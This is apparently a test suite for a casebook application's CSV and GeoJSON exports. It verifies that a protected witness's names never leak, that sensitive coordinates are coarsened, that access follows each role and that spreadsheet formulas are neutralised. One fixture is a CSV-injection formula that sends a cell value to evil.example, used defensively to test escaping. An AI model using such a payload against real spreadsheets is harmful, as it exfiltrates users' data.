/**
 * Data exports (CSV per record kind, GeoJSON of incidents) with each profile, over the real API.
 * A protected witness with a unique name in Latin, in Cyrillic and as an alias is written into
 * other records' free text; every byte of every partner and public export, headers and withheld
 * receipt included, is searched for every form of it. The CSV is read back by Python's csv module
 * and the GeoJSON by GDAL's ogrinfo, not by our own code. Nothing is faked.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadFoundingCase } from '../../scripts/demo/founding-case.js';
import { asRole } from '../../server/viewer.js';
import { startCasebook, type TestCasebook } from '../helpers/casebook.js';
import { aCitation, aLocation, anIncident, anInvolvement, anOrganisation, aPerson, aPost, aSource } from '../helpers/factories.js';

const LATIN = 'Zelimkhan Plantovsky';
const CYRILLIC = 'Зелимхан Плантовский';
const ALIAS = 'Zelik';
const FORMS = [LATIN, CYRILLIC, ALIAS, ...LATIN.split(' '), ...CYRILLIC.split(' ')];
const KINDS = ['incidents', 'locations', 'organisations', 'persons', 'alternative-names', 'posts', 'involvements', 'sources', 'citations'];
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

const squeeze = (text: string) => text.toLowerCase().replace(/[\s\p{Pd}_]+/gu, '');
const formsIn = (text: string) => FORMS.filter((form) => text.toLowerCase().includes(form.toLowerCase()) || squeeze(text).includes(squeeze(form)));

interface Raw {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

/** Rows of a CSV as Python's csv module reads it (utf-8-sig drops the byte-order mark). */
function parseCsv(bytes: Buffer): string[][] {
  const script = 'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8-sig", newline="")))))';
  return JSON.parse(execFileSync('python3', ['-c', script], { input: bytes }).toString()) as string[][];
}

function recordsOf(bytes: Buffer): Record<string, string>[] {
  const [header, ...rows] = parseCsv(bytes);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

describe('data exports', () => {
  let cb: TestCasebook;
  let pseudonym: string;
  let ids: { person: number; prison: number; town: number; incident: number; formula: number };

  async function raw(path: string, who: 'admin' | 'researcher' | 'journalist' = 'researcher'): Promise<Raw> {
    // fetch's text() would drop a byte-order mark; the bytes are read as they came.
    const response = await fetch(cb.url + path, { headers: { authorization: `Bearer ${cb.account(who).token}` } });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
  }

  before(async () => {
    cb = await startCasebook();
    const person = await aPerson(cb, {
      name: LATIN,
      pseudonymKind: 'victim',
      description: `Lives in hiding since 2017`,
      alternativeNames: [
        { name: CYRILLIC, kind: 'native-script', language: 'ru' },
        { name: ALIAS, kind: 'alias' },
      ],
    });
    pseudonym = person.pseudonym;
    const prison = await aLocation(cb, { name: 'Former police station', kind: 'detention-site', point: { latitude: 43.29137, longitude: 45.87241, precisionMeters: 50 }, description: `${ALIAS} was held here.` });
    const town = await aLocation(cb, { name: 'Argun', point: { latitude: 43.2917, longitude: 45.8723, precisionMeters: 2000 } });
    const unit = await anOrganisation(cb, { description: `The unit that took ${CYRILLIC}.` });
    const incident = await anIncident(cb, { title: 'Detention at the station', summary: `${LATIN} was detained. Later ZELIMKHAN-PLANTOVSKY was moved.`, locations: [prison.id] });
    const formula = await anIncident(cb, { title: FORMULA, summary: 'A spreadsheet must show this as text.', locations: [town.id] });
    await anInvolvement(cb, { incident: incident.id, person: person.id, role: 'victim', description: `${ALIAS} saw the cells.` });
    await aPost(cb, { person: person.id, organisation: unit.id, role: 'Driver' });
    const open = await aSource(cb, { title: `Interview about ${ALIAS}`, reliability: 'C' });
    const testimony = await aSource(cb, { kind: 'testimony', title: 'Testimony of a man who fled', reliability: 'B', restricted: true });
    await aCitation(cb, open, { kind: 'incident', id: incident.id }, { quote: `${CYRILLIC} рассказал о задержании.` });
    await aCitation(cb, testimony, { kind: 'incident', id: incident.id }, { quote: 'They took my phone', locator: '00:12:30', credibility: 2 });
    ids = { person: person.id, prison: prison.id, town: town.id, incident: incident.id, formula: formula.id };
  });
  after(() => cb.close());

  for (const profile of ['partner', 'public'] as const) {
    it(`when exported with the ${profile} profile, no byte of any CSV, the GeoJSON or the receipt holds any form of the name; the pseudonym is there`, async () => {
      const parts = [...KINDS.map((kind) => `/api/v1/exports/csv/${kind}?profile=${profile}`), `/api/v1/exports/incidents.geojson?profile=${profile}`, `/api/v1/exports/withheld.json?profile=${profile}`];
      let all = '';
      for (const path of parts) {
        const response = await raw(path);
        assert.equal(response.status, 200, `${path}: ${response.text}`);
        const everything = `${JSON.stringify([...response.headers])}\n${response.text}`;
        assert.deepEqual(formsIn(everything), [], `${path} leaks the name`);
        all += everything;
      }
      assert.ok(all.includes(pseudonym));
      const persons = recordsOf((await raw(`/api/v1/exports/csv/persons?profile=${profile}`)).bytes);
      const victim = persons.find((row) => Number(row.id) === ids.person)!;
      assert.equal(victim.name, pseudonym);
      assert.equal(victim.description, '');
      const incidents = recordsOf((await raw(`/api/v1/exports/csv/incidents?profile=${profile}`)).bytes);
      assert.match(incidents.find((row) => Number(row.id) === ids.incident)!.summary!, new RegExp(`^${pseudonym} was detained\\. Later ${pseudonym} was moved\\.$`));
    });
  }

  it('when exported with the internal profile, the name is there in full, with its alternative names and post', async () => {
    assert.ok((await raw('/api/v1/exports/csv/persons?profile=internal')).text.includes(LATIN));
    const names = recordsOf((await raw('/api/v1/exports/csv/alternative-names?profile=internal')).bytes);
    assert.deepEqual(names.filter((row) => Number(row.owner_id) === ids.person).map((row) => row.name), [CYRILLIC, ALIAS]);
    assert.equal(recordsOf((await raw('/api/v1/exports/csv/posts?profile=internal')).bytes).length, 1);
    const response = await raw('/api/v1/exports/csv/persons?profile=internal');
    assert.equal(response.headers.get('casebook-withheld'), null, 'internal withholds nothing');
  });

  it('writes UTF-8 with a byte-order mark and neutralises formulas', async () => {
    const response = await raw('/api/v1/exports/csv/incidents?profile=public');
    assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/);
    assert.deepEqual([...response.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const row = recordsOf(response.bytes).find((r) => Number(r.id) === ids.formula)!;
    assert.equal(row.title, `'${FORMULA}`);
  });

  it('leaves out for the public what it may not see, counts it in the receipt, and keeps restricted citations as their grade', async () => {
    const count = async (kind: string, profile: string) => recordsOf((await raw(`/api/v1/exports/csv/${kind}?profile=${profile}`)).bytes).length;
    assert.equal(await count('alternative-names', 'public'), 0);
    assert.equal(await count('posts', 'public'), 0);
    assert.equal(await count('sources', 'public'), 1);
    assert.equal(await count('sources', 'partner'), 2);
    const citations = recordsOf((await raw('/api/v1/exports/csv/citations?profile=public')).bytes);
    assert.equal(citations.length, 2, 'a restricted citation still counts');
    const withheld = citations.find((row) => row.source_id === '')!;
    assert.equal(withheld.source, 'restricted source, graded B2');
    assert.equal(withheld.quote, '');
    assert.equal(withheld.locator, '');
    const partnerCitations = recordsOf((await raw('/api/v1/exports/csv/citations?profile=partner')).bytes);
    assert.ok(partnerCitations.some((row) => row.quote === 'They took my phone'));

    const receipt = await cb.get('/api/v1/exports/withheld.json?profile=public');
    assert.deepEqual(receipt.body.withheld, {
      'protected persons shown as pseudonyms, without description or alternative names': 1,
      'alternative names of protected persons left out': 2,
      'posts of protected persons left out': 1,
      'involvements of protected persons shown with pseudonyms': 1,
      "citations of protected persons' posts and alternative names left out": 0,
      'restricted sources left out': 1,
      'citations of restricted sources reduced to their grade': 1,
      'coordinates of places tied to protected persons coarsened': 1,
      'map points at places tied to protected persons coarsened': 1,
    });
    const header = (await raw('/api/v1/exports/csv/sources?profile=public')).headers.get('casebook-withheld');
    assert.deepEqual(JSON.parse(header!), { 'restricted sources left out': 1 });
  });

  it('maps incidents at their places as GeoJSON that ogrinfo reads, coarsening for the public only the places tied to a protected person', async function () {
    const exact = JSON.parse((await raw('/api/v1/exports/incidents.geojson?profile=partner')).text);
    const response = await raw('/api/v1/exports/incidents.geojson?profile=public');
    assert.equal(response.headers.get('content-type'), 'application/geo+json; charset=utf-8');
    const map = JSON.parse(response.text);
    for (const collection of [exact, map]) {
      assert.equal(collection.type, 'FeatureCollection');
      assert.equal(collection.features.length, 2);
      for (const feature of collection.features) {
        assert.equal(feature.type, 'Feature');
        assert.equal(feature.geometry.type, 'Point');
        assert.equal(feature.geometry.coordinates.length, 2);
      }
    }
    const at = (collection: any, place: number) => collection.features.find((f: any) => f.properties.locationId === place);
    assert.deepEqual(at(exact, ids.prison).geometry.coordinates, [45.87241, 43.29137], '[longitude, latitude]');
    assert.equal(at(exact, ids.prison).properties.precisionMeters, 50);
    assert.deepEqual(at(map, ids.prison).geometry.coordinates, [45.9, 43.3]);
    assert.equal(at(map, ids.prison).properties.precisionMeters, 10000);
    assert.equal(at(map, ids.prison).properties.coarsened, true);
    assert.deepEqual(at(map, ids.town).geometry.coordinates, [45.8723, 43.2917], 'a place with no protected person stays exact');
    assert.deepEqual(map.withheld, { 'map points at places tied to protected persons coarsened': 1 });
    const places = recordsOf((await raw('/api/v1/exports/csv/locations?profile=public')).bytes);
    const prison = places.find((row) => Number(row.id) === ids.prison)!;
    assert.deepEqual([prison.latitude, prison.longitude, prison.precision_meters], ['43.3', '45.9', '10000'], 'the CSV must not undo the map');

    if (spawnSync('ogrinfo', ['--version']).status !== 0) this.skip();
    const file = join(cb.dir, 'incidents.geojson');
    writeFileSync(file, response.bytes);
    const summary = execFileSync('ogrinfo', ['-ro', '-al', '-so', file]).toString();
    assert.match(summary, /Geometry: Point/);
    assert.match(summary, /Feature Count: 2/);
    assert.match(summary, /precisionMeters: Integer/);
  });

  it('lets a journalist export only with the public profile, and audits every export with its profile and counts', async () => {
    assert.equal((await raw('/api/v1/exports/csv/persons?profile=internal', 'journalist')).status, 403);
    assert.equal((await raw('/api/v1/exports/incidents.geojson?profile=partner', 'journalist')).status, 403);
    assert.equal((await raw('/api/v1/exports/csv/persons?profile=public', 'journalist')).status, 200);
    assert.equal((await raw('/api/v1/exports/csv/nonsense?profile=public')).status, 404);
    assert.equal((await raw('/api/v1/exports/csv/persons?profile=secret')).status, 400);
    const entries = cb.db.$client
      .prepare(`SELECT actor_name AS actor, record_kind AS kind, "after" AS details FROM audit_entries WHERE action = 'export' ORDER BY id DESC LIMIT 1`)
      .all() as { actor: string; kind: string; details: string }[];
    assert.equal(entries[0]!.actor, 'test-journalist');
    assert.equal(entries[0]!.kind, 'persons');
    const details = JSON.parse(entries[0]!.details);
    assert.equal(details.profile, 'public');
    assert.equal(details.withheld['protected persons shown as pseudonyms, without description or alternative names'], 1);
  });
});

describe('data exports of the founding case', () => {
  let cb: TestCasebook;
  before(async () => {
    cb = await startCasebook();
    loadFoundingCase({ db: cb.db, now: () => new Date() }, asRole('researcher'), () => {});
  });
  after(() => cb.close());

  it('every public CSV parses back with one row per record the public may see', async () => {
    for (const kind of KINDS) {
      const response = await fetch(`${cb.url}/api/v1/exports/csv/${kind}?profile=public`, { headers: { authorization: `Bearer ${cb.account('journalist').token}` } });
      assert.equal(response.status, 200);
      const rows = recordsOf(Buffer.from(await response.arrayBuffer()));
      if (kind === 'citations') continue; // the API lists no citations of restricted sources; the export keeps them as grades
      let listed = 0;
      let next: string | null = `/api/v1/${kind}?limit=500`;
      while (next) {
        const page = await cb.as('journalist').get(next);
        listed += page.body.items.length;
        next = page.body.links.next;
      }
      assert.equal(rows.length, listed, kind);
    }
  });
});
